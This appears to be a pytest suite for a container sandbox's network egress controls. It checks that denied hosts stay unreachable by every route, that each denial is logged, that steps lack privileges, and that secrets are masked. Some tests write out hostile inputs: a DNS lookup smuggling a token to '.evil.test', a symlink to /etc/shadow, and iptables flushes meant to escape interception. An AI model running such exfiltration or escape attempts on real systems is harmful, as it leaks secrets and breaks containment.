"""The sandbox against a simulated internet: what a step may reach, and what it may not.

Every test runs real containers on the real engine; the hosts it aims at are the
suite's own (see conftest.py). Each denied attempt must also appear as a denied
event in events.jsonl.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from dnslib import RCODE, DNSRecord

from tests.conftest import Internet, StepRun

pytestmark = pytest.mark.docker

ATTACKS = Path(__file__).parent / "steps" / "attacks.py"


def _step(name: str, script: str, allow: list[str], mode: str = "enforce",
          **extra: Any) -> dict[str, Any]:
    spec: dict[str, Any] = {
        "name": name, "image": "sbx-step:bookworm", "run": script,
        "inputs": ["*"], "outputs": ["out/"],
        "egress": {"mode": mode, "allow": allow},
        "resources": {"timeout": 120, "memory": "256m"},
    }
    spec.update(extra)
    return spec


def _denied(run: StepRun, **match: Any) -> list[dict[str, Any]]:
    return [e for e in run.step_events() if e.get("verdict") == "denied"
            and all(e.get(k) == v for k, v in match.items())]


def test_allowed_server_by_name_over_http_and_https_with_and_without_proxy(
        run_step: Any, internet: Internet) -> None:
    script = """
mkdir -p out
curl -fsS http://web.sbx.test:8080/plain > out/http.json
curl -fsS --cacert ca.pem https://web.sbx.test:8443/tls > out/https.json
http_proxy=$SBX_PROXY curl -fsS http://web.sbx.test:8080/proxied > out/http-proxy.json
https_proxy=$SBX_PROXY curl -fsS --cacert ca.pem https://web.sbx.test:8443/proxied-tls \
  > out/https-proxy.json
"""
    run = run_step(_step("fetch", script, ["web.sbx.test:8080", "web.sbx.test:8443"]),
                   {"ca.pem": internet.ca_pem})
    assert run.result.exit_code == 0, run.step
    for name, path in (("http", "/plain"), ("https", "/tls"), ("http-proxy", "/proxied"),
                       ("https-proxy", "/proxied-tls")):
        body = json.loads(run.output(f"out/{name}.json").splitlines()[0])
        assert body == {"server": "web", "path": path}
    hits = internet.web.hits(run.started)
    assert {(h["path"], h["tls"]) for h in hits} >= {("/plain", False), ("/tls", True),
                                                     ("/proxied", False), ("/proxied-tls", True)}
    allowed = [e for e in run.step_events() if e.get("verdict") == "allowed"
               and e.get("kind") == "tcp" and e.get("phase") == "open"]
    assert {e["via"] for e in allowed} == {"relay", "proxy"}
    step_lines = (run.out.parent / "ws" / "step.yaml").read_text().splitlines()
    for e in allowed:  # the rule's source names the line of the step file that allowed it
        file, _, line = e["rule_source"].rpartition(":")
        assert file.endswith("step.yaml") and e["rule"] in step_lines[int(line) - 1]
    assert all(e["connected_ip"] == internet.web.ip for e in allowed)
    closes = [e for e in run.step_events() if e.get("phase") == "close"]
    assert closes and all(e["bytes_in"] > 0 for e in closes)
    assert run.step["flows"]["denied"] == 0


def _attack_config(internet: Internet, attacks: list[list[Any]]) -> bytes:
    query = DNSRecord.question(internet.other.name).pack().hex()
    return json.dumps({"attacks": attacks, "dns_query": query}).encode()


def _denied_attacks(internet: Internet) -> list[list[Any]]:
    other = internet.other
    return [
        ["resolve", other.name],
        ["tcp", other.ip, 8080],
        ["tcp", other.ip, 2222],
        ["proxy", f"{other.name}:8080"],
        ["proxy", f"{other.ip}:8080"],
        ["udp", other.ip, 9999],
        ["icmp", other.ip],
        ["tcp", "2001:db8::10", 80],
        ["udp", "2001:db8::10", 9999],
        ["bridge-tcp", 80],
        ["bridge-icmp"],
        ["bridge-proxy", 80],
        ["proxy", f"{internet.bridge_ip}:8080"],
        ["proxy", "127.0.0.1:22"],
        ["proxy", "10.222.0.1:80"],
        ["dns", "127.0.0.11"],
        ["dns", other.ip],
    ]


def test_denied_server_is_unreachable_every_way_and_each_attempt_is_recorded(
        run_step: Any, internet: Internet) -> None:
    other = internet.other
    run = run_step(_step("attack", "mkdir -p out && python3 attacks.py cfg.json out/r.json",
                         ["web.sbx.test:8080"]),
                   {"attacks.py": ATTACKS.read_bytes(),
                    "cfg.json": _attack_config(internet, _denied_attacks(internet))})
    report = json.loads(run.output("out/r.json"))
    results = report["results"]
    for name, result in results.items():
        if "answer" in result:  # DNS: the gateway answers, and only with NXDOMAIN
            assert DNSRecord.parse(bytes.fromhex(result["answer"])).header.rcode == RCODE.NXDOMAIN
        else:
            assert result["blocked"], f"{name} got through: {result['detail']}"
    assert other.hits(run.started) == [], "a denied flow reached the other host"
    # Enforce mode: the command succeeded, the run did not.
    assert run.step["exit_code"] == 0
    assert run.result.exit_code == 1
    bridge = report["bridge"]
    assert _denied(run, kind="dns", name=other.name)
    assert _denied(run, kind="tcp", dst_ip=other.ip, dst_port=8080)
    assert _denied(run, kind="tcp", dst_ip=other.ip, dst_port=2222)
    assert _denied(run, kind="tcp", name=other.name, via="proxy")
    assert _denied(run, kind="udp", dst_ip=other.ip, dst_port=9999)
    assert _denied(run, kind="icmp", dst_ip=other.ip)
    assert _denied(run, kind="ipv6", dst_ip="2001:db8::10", protocol="tcp")
    assert _denied(run, kind="ipv6", dst_ip="2001:db8::10", protocol="udp")
    assert _denied(run, kind="tcp", dst_ip=bridge, source="agent")
    assert _denied(run, kind="icmp", dst_ip=bridge)
    for target in (bridge, internet.bridge_ip, "127.0.0.1", "10.222.0.1"):
        assert _denied(run, kind="tcp", dst_ip=target, via="proxy"), target
    # DNS to the embedded resolver and to a direct resolver: answered by the gateway,
    # denied there, and never forwarded.
    assert len(_denied(run, kind="dns", name=other.name)) >= 3


LAST_DROPS = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in range(21000, 21000 + int(sys.argv[2])):
    try:
        s.sendto(b"x", (sys.argv[1], port))
    except OSError:
        pass  # EPERM: dropped (and logged)
"""


def test_drops_that_are_the_steps_last_act_are_each_recorded(
        run_step: Any, internet: Internet) -> None:
    """sbx stops the agent as soon as the step has exited, without waiting for it to go
    quiet: datagrams sent the instant before the exit still each have their denial, and
    the firewall's count of drops matches the records (nothing dropped unrecorded)."""
    n = 150  # under the NFLOG rule's burst: each is logged
    run = run_step(_step("lastdrops", f"python3 last.py {internet.other.ip} {n}", []),
                   {"last.py": LAST_DROPS.encode()})
    assert run.step["exit_code"] == 0
    ports = sorted(e["dst_port"] for e in _denied(run, kind="udp", dst_ip=internet.other.ip))
    assert ports == list(range(21000, 21000 + n)), f"{len(ports)} of {n} recorded"
    recording = run.step["recording"]
    assert recording["firewall_dropped"] >= n and recording["firewall_unlogged"] == 0, recording


def test_allowed_sni_sent_to_a_denied_ip_is_connected_to_the_allowed_host(
        run_step: Any, internet: Internet) -> None:
    script = f"""
mkdir -p out
curl -fsS --cacert ca.pem --resolve web.sbx.test:8443:{internet.other.ip} \
  https://web.sbx.test:8443/pinned > out/pinned.json
curl -fsS --resolve web.sbx.test:8080:{internet.other.ip} \
  http://web.sbx.test:8080/pinned-http > out/pinned-http.json
"""
    run = run_step(_step("pinned", script, ["web.sbx.test:8443", "web.sbx.test:8080"]),
                   {"ca.pem": internet.ca_pem})
    assert run.result.exit_code == 0, run.step
    assert json.loads(run.output("out/pinned.json").splitlines()[0])["server"] == "web"
    assert json.loads(run.output("out/pinned-http.json").splitlines()[0])["server"] == "web"
    assert internet.other.hits(run.started) == []
    opened = [e for e in run.step_events() if e.get("phase") == "open"]
    assert {e["dst_ip"] for e in opened} == {internet.other.ip}
    assert {e["connected_ip"] for e in opened} == {internet.web.ip}


def test_step_has_no_privileges_and_sees_no_docker_socket(run_step: Any) -> None:
    script = """
mkdir -p out
grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status > out/caps
python3 - <<'PY' > out/checks
import socket, subprocess
def attempt(name, fn):
    try:
        fn()
        print(name, "ALLOWED")
    except OSError as exc:
        print(name, "refused", exc.errno)
attempt("raw-socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet-socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
def nfnetlink():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    s.bind((0, 0))
    # NFULNL config bind, like the agent does: needs NET_ADMIN
    import struct
    body = struct.pack("!BBH", 0, 0, 9) + struct.pack("=HHB", 5, 1, 1) + b"\\0\\0\\0"
    s.send(struct.pack("=IHHII", 16 + len(body), 0x0401, 5, 1, 0) + body)
    reply = s.recv(4096)
    err = struct.unpack("=i", reply[16:20])[0]
    if err:
        raise OSError(-err, "netlink refused")
attempt("nflog-bind", nfnetlink)
def route():
    r = subprocess.run(["ip", "route", "add", "192.0.2.0/24", "dev", "eth0"], capture_output=True)
    if r.returncode:
        raise OSError(1, r.stderr.decode().strip())
attempt("ip-route", route)
PY
ls -la /var/run/docker.sock /run/docker.sock > out/socket 2>&1 || true
id -u > out/uid
"""
    run = run_step(_step("privs", script, [], user="0:0"))
    assert run.result.exit_code == 0, run.step
    caps = dict(line.split(":") for line in run.output("out/caps").splitlines())
    assert all(int(v.strip(), 16) == 0 for v in caps.values()), caps
    checks = run.output("out/checks")
    assert "ALLOWED" not in checks, checks
    assert run.output("out/uid").strip() == "0"  # root without capabilities is still powerless
    assert "No such file" in run.output("out/socket")


def test_runtime_image_as_step_cannot_flush_the_interception_rules(
        run_step: Any, sbx_images: tuple[str, str], internet: Internet) -> None:
    script = f"""
mkdir -p out
(iptables -t nat -F OUTPUT && echo FLUSHED || echo refused) > out/flush 2>&1
(iptables -P OUTPUT ACCEPT && echo POLICY || echo refused) >> out/flush 2>&1
python3 -c "
import socket
s = socket.create_connection(('{internet.other.ip}', 8080), timeout=3)
s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
print('data', s.recv(100))
" > out/after 2>&1 || true
"""
    spec = _step("rules", script, [], user="0:0")
    spec["image"] = sbx_images[0]
    run = run_step(spec)
    flush = run.output("out/flush")
    assert "FLUSHED" not in flush and "POLICY" not in flush, flush
    assert "data b'HTTP" not in run.output("out/after")
    assert internet.other.hits(run.started) == []


def test_audit_mode_lets_denied_flows_through_and_records_each_as_violation(
        run_step: Any, internet: Internet) -> None:
    other = internet.other
    script = f"""
mkdir -p out
curl -fsS http://{other.name}:8080/by-name > out/name.json
curl -fsS http://{other.ip}:8080/by-ip > out/ip.json
"""
    run = run_step(_step("audit", script, ["web.sbx.test:8080"], mode="audit"))
    assert run.result.exit_code == 0, run.step
    assert json.loads(run.output("out/name.json").splitlines()[0])["server"] == "other"
    assert json.loads(run.output("out/ip.json").splitlines()[0])["server"] == "other"
    audit = [e for e in run.step_events() if e.get("verdict") == "audit"]
    assert any(e["kind"] == "dns" and e["name"] == other.name for e in audit)
    assert any(e["kind"] == "tcp" and e.get("name") == other.name for e in audit)
    assert any((e["kind"] == "tcp" and e.get("dst_ip") == other.ip and not e.get("name"))
               or e.get("name") == other.ip for e in audit)
    assert all(e["violation"] for e in audit)
    assert run.step["flows"]["audit"] >= 3
    # Internal addresses stay closed in audit mode: that is sandbox integrity, not policy.
    assert {h["path"] for h in other.hits(run.started)} == {"/by-name", "/by-ip"}


def test_secrets_never_reach_logs_events_or_records(
        run_step: Any, monkeypatch: pytest.MonkeyPatch, internet: Internet) -> None:
    secret = "s3cr3t-token-value-42"
    monkeypatch.setenv("TEST_TOKEN", secret)
    script = """
mkdir -p out
echo "token is $TEST_TOKEN"
python3 -c "import socket, os; socket.getaddrinfo(os.environ['TEST_TOKEN'] + '.evil.test', 80)" \
  || true
echo done > out/done
"""
    run = run_step(_step("secret", script, [], secrets=["TEST_TOKEN"]))
    assert run.result.exit_code == 1  # the exfiltration attempt was denied
    log = (run.out / "logs" / "secret.log").read_text()
    assert "token is ***" in log
    for path in run.out.rglob("*"):
        if path.is_file():
            assert secret not in path.read_text(errors="replace"), path
    assert _denied(run, kind="dns", name="***.evil.test")


def test_timeout_kills_the_step_and_still_copies_outputs(run_step: Any) -> None:
    script = "mkdir -p out && echo partial > out/partial && sleep 60"
    spec = _step("slow", script, [])
    spec["resources"] = {"timeout": 2}
    run = run_step(spec)
    assert run.result.exit_code == 1
    assert run.step["status"] == "timeout"
    assert run.output("out/partial").strip() == "partial"


def test_symlinked_output_is_refused(run_step: Any) -> None:
    run = run_step(_step("links", "mkdir -p out && ln -s /etc/shadow out/loot", []))
    assert run.result.exit_code == 1
    assert "link" in run.step["reason"]
    assert not (run.out / "outputs" / "links" / "out" / "loot").exists()
